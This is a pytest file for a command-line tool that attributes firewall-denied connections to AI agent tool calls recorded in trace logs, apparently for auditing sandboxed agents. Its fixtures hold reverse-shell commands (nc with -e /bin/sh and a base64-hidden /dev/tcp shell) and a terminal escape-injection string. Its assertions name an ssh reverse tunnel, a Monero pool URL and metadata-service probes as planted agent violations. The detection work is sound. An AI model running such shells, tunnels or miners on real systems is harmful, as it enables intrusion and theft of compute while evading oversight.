"""The command line as a user meets it: answers, exit codes, exact messages, files written."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from correlate.cli import cli

ROOT = Path(__file__).resolve().parent.parent
SCENARIO = ROOT / "sample_logs" / "rome_incident"
EXPECTED = json.loads((SCENARIO / "expected.json").read_text())
ESC = "\x1b"


def invoke(*args: str) -> object:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def cfw_line(**overrides: str) -> str:
    record = {
        "__topic__": "cloudfirewall_access_log",
        "log_type": "internet_log",
        "start_time": "1764655201",
        "end_time": "1764655202",
        "src_ip": "47.96.180.21",
        "src_private_ip": "10.1.0.5",
        "src_port": "40000",
        "dst_ip": "203.0.113.9",
        "dst_port": "4444",
        "ip_protocol": "tcp",
        "direction": "out",
        "rule_result": "drop",
        "domain": "",
        "acl_rule_id": "11111111-2222-3333-4444-555555555555",
    }
    record.update(overrides)
    return json.dumps(record)


def otlp_line(
    command: str, host: str = "sbx-a", ip: str = "10.1.0.5", start_ns: int = 1764655200_000_000_000
) -> str:
    def attr(key: str, value: object) -> dict[str, object]:
        kind = "intValue" if isinstance(value, int) else "stringValue"
        return {"key": key, "value": {kind: str(value) if kind == "intValue" else value}}

    span = {
        "traceId": "0af7651916cd43dd8448eb211c80319c",
        "spanId": "b7ad6b7169203331",
        "name": "execute_tool run_shell_command",
        "kind": 1,
        "startTimeUnixNano": str(start_ns),
        "endTimeUnixNano": str(start_ns + 2_000_000_000),
        "attributes": [
            attr("gen_ai.operation.name", "execute_tool"),
            attr("gen_ai.tool.name", "run_shell_command"),
            attr("gen_ai.tool.call.id", "call_one"),
            attr("gen_ai.conversation.id", "ep-1"),
            attr("gen_ai.tool.call.arguments", json.dumps({"command": command})),
            attr("step", 1),
        ],
    }
    resource = {
        "attributes": [
            attr("service.namespace", "run-1"),
            attr("host.name", host),
            {"key": "host.ip", "value": {"arrayValue": {"values": [{"stringValue": ip}]}}},
        ]
    }
    return json.dumps(
        {"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": [span]}]}]}
    )


@pytest.fixture
def tiny(tmp_path: Path) -> Path:
    """One sandbox, one call, one denied connection 1 s after it: the smallest real incident."""
    (tmp_path / "fw.jsonl").write_text(cfw_line() + "\n")
    (tmp_path / "traces.jsonl").write_text(otlp_line("nc 203.0.113.9 4444 -e /bin/sh") + "\n")
    return tmp_path


def test_run_on_the_sample_names_the_tunnel_the_miner_and_the_probes() -> None:
    result = invoke("run", "-d", str(SCENARIO))
    assert result.exit_code == 0
    out = result.stdout
    for planted in EXPECTED["violations"]:
        if planted["call_id"]:
            assert planted["call_id"] in out
    assert "ssh -fNR 2222:localhost:22" in out
    assert "stratum+tcp://pool.supportxmr.com:3333" in out
    assert "100.100.100.200" in out
    assert "unknown host (192.168.50.9 via 47.96.180.21)" in out
    assert EXPECTED["calm_call_id"] not in out
    assert "    - 39 later events inherit this call (same conversation)" in out
    assert "cfw_internet_log.jsonl: alibaba_cfw (detected, score 0.95)" in result.stderr
    assert "README.md: skipped, not a known log format" in result.stderr


def test_quiet_keeps_stderr_empty_and_stdout_unchanged() -> None:
    loud = invoke("run", str(SCENARIO))
    quiet = invoke("run", "-q", str(SCENARIO))
    assert quiet.exit_code == 0
    assert quiet.stderr == ""
    assert quiet.stdout == loud.stdout


@pytest.mark.parametrize("command", [[], ["run"], ["formats"]])
def test_every_command_has_help(command: list[str]) -> None:
    result = invoke(*command, "--help")
    assert result.exit_code == 0
    assert "Usage:" in result.stdout


def test_formats_lists_every_registered_loader() -> None:
    from correlate.loaders import REGISTRY

    out = invoke("formats").stdout
    for name in REGISTRY:
        assert name in out


def test_missing_path_is_one_sentence_and_exit_1(tmp_path: Path) -> None:
    result = invoke("run", str(tmp_path / "nope"))
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path / 'nope'}: no such file or directory\n"


def test_empty_file_named_explicitly_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "empty.jsonl").write_text("")
    result = invoke("run", str(tmp_path / "empty.jsonl"))
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path / 'empty.jsonl'}: file is empty\n"


def test_unknown_format_named_explicitly_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "notes.txt"
    path.write_text("hello\nworld\n")
    result = invoke("run", str(path))
    assert result.exit_code == 1
    assert result.stderr.startswith(
        f"error: {path}: not a known log format; use --input-format NAME to force one"
    )


def test_forced_format_that_does_not_fit_is_an_error(tiny: Path) -> None:
    result = invoke("run", "--input-format", "traces.jsonl=alibaba_cfw", str(tiny))
    assert result.exit_code == 1
    assert "traces.jsonl: does not look like alibaba_cfw" in result.stderr


@pytest.mark.parametrize(
    ("flag", "value", "message"),
    [
        ("--before", "soon", "not a duration"),
        ("--after", "-5s", "must not be negative"),
        ("--tz", "Mars/Olympus", "unknown time zone"),
        ("--tz", "nosuchformat=UTC", "unknown format"),
        ("--input-format", "nosuchformat", "unknown format"),
        ("--format", "nosuchformat", "unknown format"),
        ("--internal-cidr", "10.0.0.0/33", "not a network"),
        ("--actions", "exploded", "choose from"),
    ],
)
def test_bad_option_values_are_usage_errors(
    tiny: Path, flag: str, value: str, message: str
) -> None:
    result = invoke("run", flag, value, str(tiny))
    assert result.exit_code == 2
    assert message in result.stderr


def test_no_network_log_is_explained(tmp_path: Path) -> None:
    (tmp_path / "traces.jsonl").write_text(otlp_line("ls") + "\n")
    result = invoke("run", str(tmp_path))
    assert result.exit_code == 1
    assert result.stderr.endswith(
        "error: no firewall or flow log among the inputs; nothing to attribute\n"
    )


def test_rejects_are_reported_kept_and_fatal_under_strict(tiny: Path, tmp_path: Path) -> None:
    fw = tiny / "fw.jsonl"
    fw.write_text(cfw_line() + "\n{not json\n" + cfw_line(dst_ip="39.108.XX.XX") + "\n")
    rejects = tmp_path / "rejects.jsonl"
    result = invoke("run", str(tiny), "--rejects", str(rejects))
    assert result.exit_code == 0
    assert f"{fw}:2: not valid JSON" in result.stderr
    assert f"{fw}:3: dst_ip is not an IP address: '39.108.XX.XX'" in result.stderr
    kept = [json.loads(line) for line in rejects.read_text().splitlines()]
    assert [(r["path"], r["line"]) for r in kept] == [(str(fw), 2), (str(fw), 3)]
    assert kept[0]["raw"] == "{not json"
    strict = invoke("run", str(tiny), "--strict")
    assert strict.exit_code == 1
    assert f"error: {fw}:2: not valid JSON" in strict.stderr
    assert "--strict stops at the first rejected row" in strict.stderr


def test_without_identity_the_join_is_time_only_and_says_so(tmp_path: Path) -> None:
    (tmp_path / "fw.jsonl").write_text(cfw_line() + "\n")
    line = json.loads(otlp_line("nc 203.0.113.9 4444"))
    line["resourceSpans"][0]["resource"]["attributes"] = []
    (tmp_path / "traces.jsonl").write_text(json.dumps(line) + "\n")
    result = invoke("run", "-d", str(tmp_path))
    assert result.exit_code == 0
    assert "no identity map: joined by time alone" in result.stdout
    assert "call_one" in result.stdout


def test_log_text_cannot_inject_escapes_or_markup(tmp_path: Path) -> None:
    evil_command = (
        f"echo {ESC}[2J{ESC}]0;pwned\x07 [bold red]owned[/] \u202etxt.exe 203.0.113.9\rclean"
    )
    (tmp_path / "fw.jsonl").write_text(
        cfw_line(domain=f"evil{ESC}[31m.example", rule_result="drop") + "\n"
    )
    (tmp_path / "traces.jsonl").write_text(otlp_line(evil_command) + "\n")
    result = invoke("run", "-d", str(tmp_path))
    assert result.exit_code == 0
    out = result.stdout
    assert ESC not in out and "\r" not in out and "\u202e" not in out and "\x07" not in out
    assert "\\x1b[2J" in out
    assert "[bold red]owned[/]" in out  # shown literally, not interpreted
    assert "\\u202etxt.exe" in out


def test_parquet_report_is_deterministic_and_carries_provenance(tmp_path: Path) -> None:
    a, b = tmp_path / "a" / "report.parquet", tmp_path / "b" / "report.parquet"
    firewall, traces, inventory = (
        str(SCENARIO / p) for p in ("firewall", "traces", "inventory.csv")
    )
    assert invoke("run", "-q", firewall, traces, inventory, "-o", str(a)).exit_code == 0
    assert invoke("run", "-q", inventory, traces, firewall, "-o", str(b)).exit_code == 0
    for name in ("report.parquet", "report.findings.parquet", "report.candidates.parquet"):
        assert (a.parent / name).read_bytes() == (b.parent / name).read_bytes(), name
    metadata = pq.read_schema(a).metadata
    assert metadata[b"correlate.table"] == b"attributions"
    provenance = json.loads(metadata[b"correlate.provenance"])
    assert provenance["parameters"]["before"] == "10s"
    inputs = {Path(i["path"]).name: i for i in provenance["inputs"]}
    assert inputs["traces.jsonl"]["loaded"] == EXPECTED["counts"]["tool_calls"]
    assert len(inputs["cfw_internet_log.jsonl"]["sha256"]) == 64
    attributions = pq.read_table(a)
    assert attributions.schema.field("ts").type.tz == "UTC"
    assert {"source_path", "source_line", "call_id", "run_id", "episode_id", "step"} <= set(
        attributions.column_names
    )
    candidates = pq.read_table(a.parent / "report.candidates.parquet")
    assert {"event_source_path", "event_source_line", "call_id", "lag_s", "rank"} <= set(
        candidates.column_names
    )


def test_report_bytes_do_not_depend_on_the_machine_time_zone(tmp_path: Path) -> None:
    here = tmp_path / "utc" / "r.parquet"
    assert invoke("run", "-q", str(SCENARIO), "-o", str(here)).exit_code == 0
    env = {**os.environ, "TZ": "Asia/Shanghai"}
    there = tmp_path / "sh" / "r.parquet"
    subprocess.run(
        [sys.executable, "-m", "correlate", "run", "-q", str(SCENARIO), "-o", str(there)],
        check=True,
        env=env,
        stdout=subprocess.DEVNULL,
    )
    assert here.read_bytes() == there.read_bytes()


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("nodot=1", "expected FORMAT.KEY=VALUE"),
        ("nosuch.key=1", "known format"),
        ("alibaba_cfw.x", "expected [KEY=]VALUE"),
    ],
)
def test_bad_format_options_are_usage_errors(tiny: Path, value: str, message: str) -> None:
    result = invoke("run", "--option", value, str(tiny))
    assert result.exit_code == 2
    assert message in result.stderr


def test_bad_reference_date_is_a_usage_error(tiny: Path) -> None:
    result = invoke("run", "--reference-date", "someday", str(tiny))
    assert result.exit_code == 2
    assert "not a date" in result.stderr


def test_sniff_prints_every_positive_score_and_the_winner() -> None:
    result = invoke(
        "sniff", str(SCENARIO / "firewall" / "cfw_vpc_log.csv"), str(SCENARIO / "README.md")
    )
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert lines[0].endswith("README.md: no format (all below 0.5)")
    assert lines[1].endswith("cfw_vpc_log.csv: alibaba_cfw")
    assert lines[2] == "  0.95  alibaba_cfw"


def test_a_file_whose_first_records_all_fail_stops_early_with_a_hint(tmp_path: Path) -> None:
    path = tmp_path / "fw.jsonl"
    path.write_text(
        cfw_line(dst_ip="masked")
        + "\n"
        + "\n".join(cfw_line(dst_ip=f"x{i}") for i in range(150))
        + "\n"
    )
    (tmp_path / "traces.jsonl").write_text(otlp_line("ls") + "\n")
    result = invoke("run", "-q", str(path), str(tmp_path / "traces.jsonl"))
    assert result.exit_code == 1
    assert "the first 100 records all failed as alibaba_cfw" in result.stderr
    assert "try --input-format or `correlate sniff" in result.stderr


def test_json_summary_for_scripts_is_ascii_and_complete() -> None:
    result = invoke("run", "-q", "--json", str(SCENARIO))
    assert result.exit_code == 0
    assert result.stdout.isascii()
    document = json.loads(result.stdout)
    assert {f["call_id"] for f in document["findings"]} >= {
        v["call_id"] for v in EXPECTED["violations"] if v["call_id"]
    }
    assert document["provenance"]["counts"]["tool_calls"] == EXPECTED["counts"]["tool_calls"]


def test_verbose_lists_every_reject_and_the_stage_timings(tiny: Path) -> None:
    fw = tiny / "fw.jsonl"
    fw.write_text(cfw_line() + "\n" + "\n".join("{broken" for _ in range(12)) + "\n")
    quiet = invoke("run", str(tiny))
    assert "... and 2 more (use --rejects FILE to keep them all)" in quiet.stderr
    loud = invoke("run", "-v", str(tiny))
    assert loud.exit_code == 0
    assert f"{fw}:13: not valid JSON" in loud.stderr
    assert "more (use --rejects" not in loud.stderr
    assert "analysed in" in loud.stderr and "(local join)" in loud.stderr


def test_a_destination_hidden_in_base64_is_found_and_the_hiding_reported(tmp_path: Path) -> None:
    import base64

    payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").decode()
    (tmp_path / "fw.jsonl").write_text(cfw_line() + "\n")
    (tmp_path / "traces.jsonl").write_text(otlp_line(f"echo {payload} | base64 -d | bash") + "\n")
    result = invoke("run", "-d", "-q", str(tmp_path))
    assert result.exit_code == 0
    assert "destination 203.0.113.9 appears in the call" in result.stdout
    assert (
        "the call hid 203.0.113.9 (base64), reverse_shell (base64) in a base64 payload"
        in result.stdout
    )
